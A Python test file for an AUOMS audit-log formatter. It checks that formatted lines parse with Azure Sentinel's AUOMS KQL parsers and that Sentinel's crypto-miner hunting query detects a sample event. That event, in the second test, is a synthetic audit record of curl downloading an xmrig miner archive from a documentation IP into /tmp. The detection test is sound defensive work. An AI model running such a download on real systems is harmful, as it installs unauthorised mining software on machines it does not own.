"""Our MSTIC lines through Azure Sentinel's own AUOMS parsers and hunting query (their KQL `parse` patterns are
read from ../shared/reference/sentinel and emulated by tests/kql.py)."""
import pytest

from auoms_py.format import mstic
from auoms_py.pipeline.escape import tty_escape
from tests.kql import parse, run_parser
from tests.paths import REFERENCE, SAMPLES, SHARED
from tests.pipeline.helpers import read_lines, records, run_lines

SENTINEL = REFERENCE / "sentinel"
PARSERS = {
    "AUOMS_EXECVE": [SENTINEL / "Parsers__SyslogAUOMS__SyslogExecve.txt",
                     SENTINEL / "Parsers__SyslogAUOMS__SyslogExecve.txt@2bdc9150"],
    "AUOMS_SYSCALL": [SENTINEL / "Parsers__SyslogAUOMS__SyslogSyscall.txt"],
    "USER_ERR": [SENTINEL / "Parsers__SyslogAUOMS__SyslogUserErr.txt"],
}
INPUTS = [SHARED / "bench" / "templates.raw", SAMPLES / "plugin-enriched-interleaved.raw",
          SAMPLES / "netlink-multicast-head200.txt", REFERENCE / "msticpy" / "auditd_log.txt"]


def _lines_by_type():
    found = {}
    for path in INPUTS:
        for record in records(run_lines(read_lines(path))):
            line = mstic.format_record(record)
            if line is not None and record.type_name in PARSERS:
                found.setdefault(record.type_name, []).append((record, line))
    return found


LINES = _lines_by_type()


@pytest.mark.parametrize("type_name", sorted(PARSERS))
def test_every_line_parses_with_sentinels_parser(type_name):
    assert len(LINES.get(type_name, [])) > 0
    for parser in PARSERS[type_name]:
        for record, line in LINES[type_name]:
            if type_name == "AUOMS_EXECVE" and record.argv is None:
                # a failed exec has no EXECVE record, hence no cmdline: like AUOMS we write its proctitle, and
                # the Execve parser (which needs `cmdline="..." containerid=`) leaves such rows unparsed
                continue
            columns = run_parser(parser, line)
            assert columns is not None, f"{parser.name} cannot parse: {line}"
            assert columns["EventType"] == type_name
            if type_name == "USER_ERR":
                assert columns["res"] == record.get("res")
                continue
            assert columns["pid"] == str(record.pid)
            assert columns["exe"] == tty_escape(record.exe)
            assert columns["containerid"] == ""
            if type_name == "AUOMS_EXECVE" and "cmdline" in columns:
                assert columns["cmdline"] == record.cmdline


def test_crypto_currency_miners_query_finds_a_miner_download():
    query = SENTINEL / "Solutions__Syslog__Hunting Queries__CryptoCurrencyMiners.yaml"
    patterns = [line.strip().split(" with ", 1)[1] for line in query.read_text().splitlines()
                if line.strip().startswith("| parse ")]
    exec_line = ('type=SYSCALL msg=audit(1795338939.098:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 '
                 'a2=3 a3=4 items=1 ppid=1 pid=4242 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 '
                 'egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=5 comm="curl" exe="/usr/bin/curl" key="auoms"')
    lines = [exec_line,
             'type=EXECVE msg=audit(1795338939.098:7): argc=3 a0="curl" a1="-O" '
             'a2="http://198.51.100.9/xmrig-6.21.tar.gz"',
             'type=CWD msg=audit(1795338939.098:7): cwd="/tmp"',
             'type=PATH msg=audit(1795338939.098:7): item=0 name="/usr/bin/curl" inode=5 dev=fe:00 mode=0100755 '
             'ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
             "type=EOE msg=audit(1795338939.098:7): "]
    with open(REFERENCE / "auoms" / "passwd") as passwd:
        assert "user:x:1000" in passwd.read()
    (line,) = [mstic.format_record(r) for r in records(run_lines(lines))]
    outer = parse(line, patterns[0])
    columns = parse(outer["EventData"], patterns[1])
    assert outer["EventType"] == "AUOMS_EXECVE"
    assert columns["comm"] in ("wget", "curl") and "xmrig" in columns["cmdline"]
    assert columns["user"] == "user" and columns["audit_user"] == "user"
